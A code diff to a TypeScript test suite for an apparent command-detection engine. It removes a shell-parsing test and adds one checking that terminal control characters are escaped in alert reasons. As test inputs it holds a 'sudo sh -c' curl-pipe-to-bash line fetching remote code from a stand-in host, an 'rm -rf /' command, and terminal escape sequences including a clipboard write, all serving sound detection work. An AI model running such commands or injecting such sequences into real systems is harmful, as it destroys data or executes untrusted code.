@@ -1,7 +1,6 @@
 import { assertValidDocument } from '../schema';
 import { createStreamingEngine } from './engine';
 import { commandEvent } from './events';
-import { simpleCommands } from './shell';
 import type { RuleDef } from './types';
 
 const base: RuleDef = {
@@ -11,14 +10,6 @@ const base: RuleDef = {
   condition: { cmd: { name: ['rm'], flags_any: ['-r'], args_any: { equals: '/' } } },
 };
 const at = (s: number): string => new Date(Date.UTC(2026, 0, 1, 0, 0, s)).toISOString();
-
-describe('shell parsing', () => {
-  it('splits pipelines, unwraps sudo and sh -c, and records redirections', () => {
-    const cs = simpleCommands(`sudo sh -c 'curl -s http://x/a | bash' > /tmp/o 2>&1; echo ok`);
-    expect(cs.map((c) => [c.name, c.sudo, c.pipeTo])).toEqual([['sudo', false, ''], ['sh', true, ''], ['curl', true, 'bash'], ['bash', true, ''], ['echo', false, '']]);
-    expect(cs[0]?.writes).toEqual(['/tmp/o']);
-  });
-});
 
 describe('streaming engine', () => {
   it('raises a valid ECS alert with a deterministic id, and the same id on replay', () => {
@@ -67,5 +58,15 @@ describe('streaming engine', () => {
     expect(eng.process({})).toHaveLength(0);
     expect(eng.process({ '@timestamp': 'nope', process: { command_line: 42 } })).toHaveLength(0);
     expect(eng.stats().badTime).toBe(2);
+  });
+});
+
+describe('alert reasons', () => {
+  it('show the command the user typed with its control characters escaped', () => {
+    const ev = commandEvent('rm -rf / \x1b]52;c;ZXZpbA==\x07\x1b[2J', { id: 'e1', timestamp: at(1) });
+    const [a] = createStreamingEngine([base]).process(ev);
+    const reason = String((a as unknown as { event: { reason?: string } }).event.reason);
+    expect(reason).toContain('\\x1b]52;c;ZXZpbA==\\x07\\x1b[2J');
+    expect(reason).not.toMatch(/[\x00-\x1f\x7f]/);
   });
 });
